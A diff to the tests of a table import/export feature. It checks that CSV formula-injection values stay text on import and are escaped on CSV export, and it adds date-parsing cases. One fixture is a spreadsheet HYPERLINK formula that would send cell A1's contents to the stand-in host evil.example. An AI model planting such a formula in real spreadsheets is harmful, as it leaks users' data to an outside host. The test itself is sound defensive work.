@@ -147,17 +147,23 @@ describe('a table', () => {
   });
 
   it('with formulas in CSV, which are text', async () => {
-    const items = await made('formula-injection.csv');
+    const { plan } = await send('formula-injection.csv');
+    const items = Object.fromEntries(
+      (await itemsOf(client, plan.id)).map((item) => [item.code as string, item]),
+    );
     expect(items['1']).toMatchObject({
       title: { texts: { en: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' } },
       owners: ['partner:@SUM(A1)'],
     });
     expect(items['3']).toMatchObject({ title: { texts: { en: '=kept as it is' } } });
+    const csv = (await client.get(`/plans/${plan.id}/export.csv`)).body;
+    expect(csv).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")`);
+    expect(csv).not.toMatch(/(^|[,;\n"])[=@+]/);
   });
 
   it('with formulas in XLSX, whose values count; one that failed or was never calculated is said', async () => {
     const answer = await look('formulas.xlsx');
-    expect(outline(answer)).toEqual(['1 | Calculated title']);
+    expect(outline(answer)).toEqual(['1 | Calculated title', '4 | =HYPERLINK("http://example.org","click")']);
     expect(problems(answer)).toEqual([[3, 'when', expect.stringContaining('failed')]]);
     const items = await made('formulas.xlsx', { skipProblems: 'true' });
     expect(items).toMatchObject({
@@ -240,6 +246,11 @@ describe('a table', () => {
     expect(open['4']).toMatchObject({ when: { precision: 'day', start: '2025-03-12' } });
     expect(open['6']).toMatchObject({ when: { precision: 'range', start: '2026-03-01', end: '2026-06-30' } });
     expect(open['8']).toMatchObject({ when: { precision: 'none', text: 'TBD' } });
+    expect(open['5']).toMatchObject({ when: { precision: 'none', text: 'after the elections' } });
+    expect(open['9']).toMatchObject({ when: { precision: 'day', start: '2025-12-31' } });
+    expect(open['10']).toMatchObject({ when: { precision: 'recurring', start: null, text: 'yearly' } });
+    expect(open['11']).toMatchObject({ when: { precision: 'open-ended' } });
+    expect(open['12']).toMatchObject({ when: { text: 'mid-2024' } });
   });
 
   it('without headings', async () => {
